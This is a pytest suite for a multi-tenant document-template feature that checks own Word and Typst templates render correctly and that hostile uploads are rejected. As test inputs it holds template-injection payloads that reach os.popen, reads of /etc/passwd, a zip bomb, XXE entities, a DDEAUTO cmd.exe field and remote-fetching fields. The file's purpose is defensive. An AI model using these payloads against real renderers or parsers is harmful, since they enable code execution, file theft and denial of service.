"""Templates of a tenant's own: what they may do, what they are refused for, and that nothing of a hostile one happens."""

from __future__ import annotations

import os
import signal
import struct
import time
import zipfile
from collections.abc import Iterator, Mapping
from io import BytesIO
from typing import Any
from uuid import UUID

import docx
import pytest

from core.testkit.fixtures import Api, People
from plugins.documents import templates, workers
from plugins.documents.word import blocks, fill
from sdk import Stale, Tenant, Upload
from tests.plugins.test_documents import API, Office, asked, office, pages, preview, problem, said

__all__ = ["office"]
HEAD = '#let d = json("values.json")\n'
PIXEL = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde\x00\x00\x00\x0cIDATx\x9cc\xf8\xcf\xc0"
    b"\x00\x00\x03\x01\x01\x00\xc9\xfe\x92\xef\x00\x00\x00\x00IEND\xaeB`\x82"
)


@pytest.fixture(scope="module", autouse=True)
def _processes() -> Iterator[None]:
    """None of the renderer's processes outlives these tests."""
    yield
    workers.pool().close()


def word(*paragraphs: str) -> bytes:
    """A Word file with these paragraphs."""
    file, made = docx.Document(), BytesIO()
    for paragraph in paragraphs:
        file.add_paragraph(paragraph)
    file.save(made)
    return made.getvalue()


def archive(parts: Mapping[str, bytes]) -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as sink:
        for name, part in parts.items():
            sink.writestr(name, part)
    return made.getvalue()


def changed(content: bytes, **parts: bytes) -> bytes:
    """A Word file with other parts: `document=b"..."` is word/document.xml."""
    with zipfile.ZipFile(BytesIO(content)) as source:
        there = {name: source.read(name) for name in source.namelist()}
    return archive({**there, **{name.replace("__", "/").replace("_xml", ".xml"): part for name, part in parts.items()}})


def upload(
    client: Api, content: bytes, filename: str = "own.docx", template: str = "orders.invoice", name: str = "Own", locale: str = "en"
) -> Any:
    data = {"template": template, "name": name, "locale": locale, "file": (BytesIO(content), filename)}
    return client.call("POST", f"{API}/uploads", data=data, content_type="multipart/form-data")


# --- what they may do --------------------------------------------------------------------------------------------------


@pytest.mark.feature("I11")
def test_an_own_word_template_with_loops_conditions_and_amounts(client: Api, office: Office) -> None:
    content = word(
        "Dear {{ buyer.name }},", "{% for one in lines %}{{ one.position }}: {{ one.quantity }} x {{ one.description }} = {{ one.total }}; {% endfor %}",
        "{% if draft %}not issued{% else %}issued{% endif %}", "{{ total.words }} / {{ total.amount }} / {{ total.currency }} / {{ made_on.iso }}",
        "{{ lines | length }} {{ loop_total | default('none') }}",
    )  # fmt: skip
    made = upload(client, content)
    assert problem(made) == (422, "missing_variable", made.json["errors"][0]["message"])
    made = upload(client, word(*[p.text for p in docx.Document(BytesIO(content)).paragraphs[:4]]))
    assert made.status_code == 201, made.text
    invoice = office.written("invoice", office.abroad, 2)
    text = said(preview(client, about=f"orders.invoice:{invoice}", template=made.json["id"]))
    assert "Dear Alder Foods," in text
    assert "1: 1 x Gateway = CN¥113.06; 2: 2 x Gateway = CN¥226.11;" in text
    assert "not issued" in text
    assert "Three hundred thirty-nine and 17/100 Chinese yuan / 339.17 / CNY / 2026-01-15" in text


@pytest.mark.feature("I11")
def test_an_own_pdf_template_with_an_image_is_preferred_to_the_shipped_one(client: Api, office: Office) -> None:
    source = HEAD + '#image("logo.png", width: 1cm)\nOur own #d.number for #d.buyer.name\n#for one in d.lines [#one.description]'
    made = upload(client, archive({"main.typ": source.encode(), "logo.png": PIXEL}), "own.zip", "orders.quote")
    assert made.status_code == 201, made.text
    quote = office.written("quote", office.abroad, 1)
    assert "Thankyou" in pages(preview(client, **asked("quote", quote)))[0]
    assert client.patch(f"{API}/templates/{made.json['id']}", {"preferred": True}).status_code == 200
    assert pages(preview(client, **asked("quote", quote)))[0] == "OurownQUO-2026-00001forAlderFoodsGateway"
    at_home = office.written("quote", office.at_home, 1)
    assert "报价单" in pages(preview(client, **asked("quote", at_home)))[0]
    client.patch(f"{API}/templates/{made.json['id']}", {"active": False})
    assert "Thankyou" in pages(preview(client, **asked("quote", quote)))[0]
    answer = client.get(f"{API}/previews", {"about": f"orders.quote:{quote}", "template": made.json["id"]})
    assert problem(answer)[:2] == (422, "unknown_template")


@pytest.mark.feature("I11")
@pytest.mark.parametrize("format", ["pdf", "docx"])
def test_a_shipped_template_is_the_start_of_an_own_one(client: Api, office: Office, format: str) -> None:
    for kind in ("quote", "contract", "invoice"):
        for locale in ("zh_CN", "en"):
            got = client.get(f"{API}/shipped", {"template": f"orders.{kind}", "format": format, "locale": locale})
            assert got.status_code == 200
            filename = "own.docx" if format == "docx" else "own.zip"
            made = upload(client, got.data, filename, f"orders.{kind}", f"{kind} {locale}", locale)
            assert made.status_code == 201, made.text
            assert client.get(f"{API}/templates/{made.json['id']}/content").data == got.data


@pytest.mark.feature("I11")
def test_new_content_is_a_new_revision_and_what_was_issued_stays(client: Api, office: Office) -> None:
    made = upload(client, word("first {{ number }}")).json
    invoice = office.written("invoice", office.abroad, 1)
    wish = {"about": f"orders.invoice:{invoice}", "template": made["id"]}
    first = client.post(f"{API}/renderings", wish).json
    again = client.call("POST", f"{API}/templates/{made['id']}/revisions", data={"file": (BytesIO(word("second")), "b.docx")},
                        content_type="multipart/form-data")  # fmt: skip
    assert (again.status_code, again.json["revision"]) == (201, 2)
    second = client.post(f"{API}/renderings", wish).json
    texts = [said(client.get(f"{API}/documents/{one['id']}/content").data) for one in (first, second)]
    assert ["first" in texts[0], "second" in texts[1]] == [True, True]
    other = client.call(
        "POST", f"{API}/templates/{made['id']}/revisions", data={"file": (BytesIO(b"x"), "b.typ")}, content_type="multipart/form-data"
    )
    assert problem(other)[:2] == (422, "unknown_format")
    assert problem(client.patch(f"{API}/templates/{made['id']}", {"sha256": "0"}))[0] == 422


def test_content_that_somebody_else_has_changed_while_it_was_tried_is_not_written_over(
    client: Api, office: Office, monkeypatch: pytest.MonkeyPatch
) -> None:
    id, work = UUID(upload(client, word("first")).json["id"]), office.work
    tried = templates.rendered

    def slow(*given: Any, **more: Any) -> bytes:
        work.records("documents.template").update(id, {"notes": "changed meanwhile"})
        return tried(*given, **more)

    monkeypatch.setattr(templates, "rendered", slow)
    with work.transaction(write=True), pytest.raises(Stale):
        templates.revise(work, id, Upload("b.docx", BytesIO(word("second"))))
    assert work.records("documents.template").values([id])[id]["revision"] == 1


def test_who_administers_uploads_templates_and_others_use_them(client: Api, office: Office, people: People) -> None:
    rep = client.as_user(people.rep)
    assert upload(rep, word("x")).status_code == 403
    made = upload(client, word("{{ number }}"), template="orders.quote").json
    quote = office.written("quote", office.abroad, 1)
    assert "QUO-" in said(preview(rep, about=f"orders.quote:{quote}", template=made["id"]))
    assert rep.patch(f"{API}/templates/{made['id']}", {"name": "x"}).status_code == 403
    (offer,) = rep.get(f"{API}/offers", {"entity": "orders.quote"}).json["data"]
    assert [row["id"] for row in offer["own"]] == [made["id"]]
    assert {"name": "lines[].quantity", "label": "Line: quantity", "kind": "number", "example": "10"} in offer["variables"]


# --- what they are refused for -----------------------------------------------------------------------------------------


@pytest.mark.feature("I11")
@pytest.mark.parametrize(
    ("paragraph", "name"),
    [
        ("{{ nmuber }}", "nmuber"), ("{{ buyer.nmae }}", "buyer.nmae"), ("{% for one in lines %}{{ one.prise }}{% endfor %}", "lines[].prise"),
        ("{% if not draft %}{{ hidden }}{% endif %}", "hidden"), ("{{ total.in_words }}", "total.in_words"),
    ],
)  # fmt: skip
def test_a_missing_variable_of_a_word_template_is_named(client: Api, office: Office, paragraph: str, name: str) -> None:
    status, code, text = problem(upload(client, word("{{ number }}", paragraph), name="Mine"))
    assert (status, code) == (422, "missing_variable")
    assert f"own.docx: variable '{name}'" in text


@pytest.mark.feature("I11")
def test_a_missing_variable_of_a_pdf_template_is_named_with_its_line(client: Api, office: Office) -> None:
    for line, name in (("#d.buyer.nmae", "d.buyer.nmae"), ("#nmuber", "nmuber"), ("#for one in d.lines [#one.prise]", "one.prise")):
        status, code, text = problem(upload(client, f"{HEAD}\n{line}".encode(), "own.typ"))
        assert (status, code) == (422, "missing_variable")
        assert f"'{name}' does not exist (main.typ:3)" in text


@pytest.mark.feature("I11")
@pytest.mark.parametrize(
    ("content", "filename", "said"),
    [
        (word("{% if draft %}"), "a.docx", "endif"), (word("{{ number "), "a.docx", "expected"), (f"{HEAD}\n#foo(".encode(), "a.typ", "unclosed delimiter (main.typ:3)"),
    ],
)  # fmt: skip
def test_a_syntax_error_says_where_it_is(client: Api, office: Office, content: bytes, filename: str, said: str) -> None:
    status, code, text = problem(upload(client, content, filename))
    assert (status, code) == (422, "template_error")
    assert said in text


HOSTILE_WORD = {
    "{{ ''.__class__.__mro__ }}": {"missing_variable", "template_error"},
    "{{ ''['__class__'] }}": {"missing_variable", "template_error"},
    "{{ number | attr('__class__') }}": {"template_error"},
    "{{ cycler.__init__.__globals__ }}": {"missing_variable", "template_error"},
    "{{ lipsum.__globals__['os'].popen('id').read() }}": {"missing_variable", "template_error"},
    "{{ '{0.__class__.__init__.__globals__}'.format(number) }}": {"missing_variable", "template_error"},
    "{{ buyer.update({}) }}": {"missing_variable"},
    "{% for i in range(10**9) %}x{% endfor %}": {"too_much", "template_error"},
    "{{ 'x' * 10**10 }}": {"too_much"},
    "{% autoescape false %}{{ number }}{% endautoescape %}": {"template_error"},
    "{% include '/etc/passwd' %}": {"template_error"},
    "{{ number | safe }}": {"template_error"},
    "{% set a %}[w:br/]{% endset %}{{ a.translate({91: 60, 93: 62}) }}": {"missing_variable"},
}
HOSTILE_PDF = {
    '#read("/etc/passwd")': {"template_error"},
    '#read("../../../../etc/passwd")': {"template_error"},
    '#import "@preview/cetz:0.3.0"': {"no_packages"},
    '#import "@" + "preview/cetz:0.3.0"': {"no_packages"},
    "#while true {}": {"template_error"},
    "#let f(n) = f(n + 1)\n#f(0)": {"template_error", "too_much"},
    '#let x = "a" * 3000000000\n#x': {"too_much", "too_long"},
    '#plugin("x.wasm")': {"template_error"},
}


@pytest.mark.feature("I11")
@pytest.mark.parametrize("database_templates", ["sqlite"], indirect=True)
def test_hostile_code_in_a_word_template_is_refused(client: Api, office: Office, tenant: Tenant) -> None:
    for paragraph, expected in HOSTILE_WORD.items():
        status, code, text = problem(upload(client, word(paragraph)))
        assert status == 422, paragraph
        assert code in expected, (paragraph, text)
        assert "root:" not in text, paragraph
    assert not (office.work.platform.config.home / "files" / tenant.id.hex).exists()
    assert upload(client, word("{{ number }}")).status_code == 201  # and the next one is served


@pytest.mark.feature("I11")
@pytest.mark.parametrize("database_templates", ["sqlite"], indirect=True)
def test_hostile_code_in_a_pdf_template_is_refused(client: Api, office: Office) -> None:
    for number, (source, expected) in enumerate(HOSTILE_PDF.items()):
        status, code, text = problem(upload(client, source.encode(), "own.typ"))
        assert status == 422, source
        assert code in expected, (source, text)
        assert "/tmp/" not in text, source
        assert upload(client, b"fine", "own.typ", name=f"Fine {number}").status_code == 201


@pytest.mark.feature("I11")
@pytest.mark.parametrize("database_templates", ["sqlite"], indirect=True)
@pytest.mark.parametrize("filename", ["own.docx", "own.typ"])
def test_what_does_not_end_is_cut_off(client: Api, office: Office, monkeypatch: pytest.MonkeyPatch, filename: str) -> None:
    monkeypatch.setattr(workers, "SECONDS", 1)
    loop = "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}"
    source = "#let i = 0\n#for a in range(99999) { for b in range(99999) { i = calc.rem(i + a * b, 7) } }"
    started = time.monotonic()
    status, code, text = problem(upload(client, word(loop) if filename == "own.docx" else source.encode(), filename))
    assert (status, code) == (422, "too_long"), text
    assert time.monotonic() - started < 30


def bomb() -> bytes:
    """A Word file of a few kilobytes that unpacks to a gigabyte."""
    made = BytesIO()
    with (
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as sink,
        sink.open("word/document.xml", "w", force_zip64=True) as part,
    ):
        for _mega in range(256):
            part.write(b" " * (4 << 20))
    return made.getvalue()


def liar() -> bytes:
    """An archive whose directory says that its part is small."""
    honest = bytearray(archive({"word/document.xml": b" " * (30 << 20)}))
    place = honest.rfind(b"PK\x01\x02")
    honest[place + 24 : place + 28] = struct.pack("<I", 100)
    return bytes(honest)


_RELATION = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" TargetMode="{mode}" Type="{type}" Target="{target}"/></Relationships>'
_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
XXE = b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'


DTD = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
"""As drawing programs write it."""


def field(*pieces: str) -> bytes:
    """A document with one field, whose words stand in several pieces."""
    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'<w:document xmlns:w="{space}"><w:body><w:p>{begin}{said}{end}</w:p></w:body></w:document>'.encode()


def elsewhere() -> bytes:
    """A Word file whose document is not where it looks to be, and fetches something there."""
    with zipfile.ZipFile(BytesIO(word("x"))) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    for name in ("[Content_Types].xml", "_rels/.rels"):
        parts[name] = parts[name].replace(b"word/document.xml", b"word/other.dat")
    parts["word/other.dat"], parts["word/_rels/other.dat.rels"] = (
        field('INCLUDETEXT "//a.example/x"'),
        parts["word/_rels/document.xml.rels"],
    )
    return archive(parts)


REFUSED_FILES = {
    "bomb": (bomb, "archive_too_large"),
    "liar": (liar, "archive_"),
    "entities": (lambda: changed(word("x"), word__document_xml=XXE), "xml_entities"),
    "entities in a picture": (
        lambda: changed(word("x"), **{"word__media__logo.svg": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'}),
        "xml_entities",
    ),
    "field in a picture": (lambda: changed(word("x"), **{"word__media__logo.svg": DTD + field('INCLUDETEXT "//a.example/x"')}), "external_link"),
    "macros": (lambda: changed(word("x"), **{"word__vbaProject.bin": b"x"}), "active_content"),
    "embedded": (lambda: changed(word("x"), **{"word__embeddings__oleObject1.bin": b"x"}), "active_content"),
    "field": (lambda: changed(word("x"), word__document_xml=field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), "external_link"),
    "split field": (lambda: changed(word("x"), word__document_xml=field(" INCLUDE", 'TEXT "//a.example/x"')), "external_link"),
    "field by code": (lambda: changed(word("x"), word__document_xml=field("{{ 'DATA' ~ 'BASE' }} //a.example/x")), "external_link"),
    "elsewhere": (elsewhere, "external_link"),
    "picture": (
        lambda: changed(word("x"), **{"word___rels__document_xml.rels": _RELATION.format(mode="External", type=f"{_TYPE}image", target="http://a.example/x.png").encode()}),
        "external_link",
    ),
    "attached": (
        lambda: changed(word("x"), **{"word___rels__settings_xml.rels": _RELATION.format(mode="External", type=f"{_TYPE}attachedTemplate", target="http://a.example/x.dotm").encode()}),
        "external_link",
    ),
    "script": (
        lambda: changed(word("x"), **{"word___rels__x_xml.rels": _RELATION.format(mode="External", type=f"{_TYPE}hyperlink", target="file:///etc/passwd").encode()}),
        "external_link",
    ),
    "zip": (lambda: archive({"a.txt": b"x"}), "no_word_document"),
    "text": (lambda: b"hello", "archive_malformed"),
    "cut": (lambda: word("x")[:2000], "archive_malformed"),
}  # fmt: skip


@pytest.mark.feature("I11")
@pytest.mark.parametrize("database_templates", ["sqlite"], indirect=True)
def test_a_file_that_is_more_than_a_word_template_is_refused(client: Api, office: Office) -> None:
    for name, (make, expected) in REFUSED_FILES.items():
        status, code, text = problem(upload(client, make()))
        assert status == 422, name
        assert code.startswith(expected), (name, text)
        assert "root:" not in text, name


def test_a_picture_may_name_its_dtd_and_what_was_filled_in_may_be_more_than_a_file_that_is_uploaded(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    own = changed(word("{% for one in many %}{{ one }}{% endfor %}"), **{"word__media__logo.svg": DTD + b"<svg/>"})
    size = sum(entry.file_size for entry in zipfile.ZipFile(BytesIO(own)).infolist())
    monkeypatch.setattr("plugins.documents.archive.MOST_UNPACKED", size)
    assert blocks(fill(own, {"many": ["x" * size]}, check=False)) == [["", "x" * size]]


@pytest.mark.parametrize("database_templates", ["sqlite"], indirect=True)
@pytest.mark.parametrize(
    "parts",
    [{"main.typ": b"x", "../up.typ": b"x"}, {"main.typ": b"x", "a/b.typ": b"x"}, {"other.typ": b"x"}, {"main.typ": b"x", "run.wasm": b"x"}],
)
def test_an_archive_of_sources_holds_sources_and_images_side_by_side(client: Api, office: Office, parts: Mapping[str, bytes]) -> None:
    assert problem(upload(client, archive(parts), "own.zip"))[:2] == (422, "archive_malformed")


@pytest.mark.parametrize("database_templates", ["sqlite"], indirect=True)
def test_other_refusals_name_the_field(client: Api, office: Office, monkeypatch: pytest.MonkeyPatch) -> None:
    assert problem(upload(client, b"x", "own.exe"))[:2] == (422, "unknown_format")
    assert problem(upload(client, word("x"), locale="qq"))[:2] == (422, "unknown_locale")
    assert problem(upload(client, word("x"), template="orders.nothing"))[:2] == (422, "unknown_template")
    assert problem(upload(client, b"\xff\xfe", "own.typ"))[:2] == (422, "no_text")
    quote = office.written("quote", office.abroad, 1)
    wish = {"about": f"orders.quote:{quote}"}
    for more, status, code in (
        ({"template": "orders.invoice"}, 422, "other_entity"), ({"template": "orders.quote", "locale": "qq"}, 422, "unknown_locale"),
        ({"template": str(UUID(int=1))}, 422, "unknown_template"), ({"template": "orders.quote", "format": "xlsx"}, 422, "invalid"),
    ):  # fmt: skip
        found = problem(client.post(f"{API}/renderings", {**wish, **more}))
        assert found[0] == status, found
        assert code in (found[1], "invalid")
    assert client.post(f"{API}/renderings", {"about": "orders.nothing:" + str(quote), "template": "orders.quote"}).status_code == 404
    made = upload(client, word("x")).json
    assert problem(client.patch(f"{API}/templates/{made['id']}", {"locale": "qq"}))[:2] == (422, "unknown_locale")
    assert client.patch(f"{API}/templates/{made['id']}", {"locale": "zh-cn"}).json["locale"] == "zh_CN"
    monkeypatch.setattr(templates, "MOST_BYTES", 3)
    assert upload(client, word("x")).status_code == 413


@pytest.mark.parametrize("database_templates", ["sqlite"], indirect=True)
def test_a_renderer_that_was_killed_while_it_waited_is_replaced(client: Api, office: Office) -> None:
    quote = office.written("quote", office.abroad, 1)
    preview(client, **asked("quote", quote))
    for process in workers.pool()._idle:
        os.kill(process.pid, signal.SIGKILL)
        os.waitid(os.P_PID, process.pid, os.WEXITED | os.WNOWAIT)
    preview(client, **asked("quote", quote))
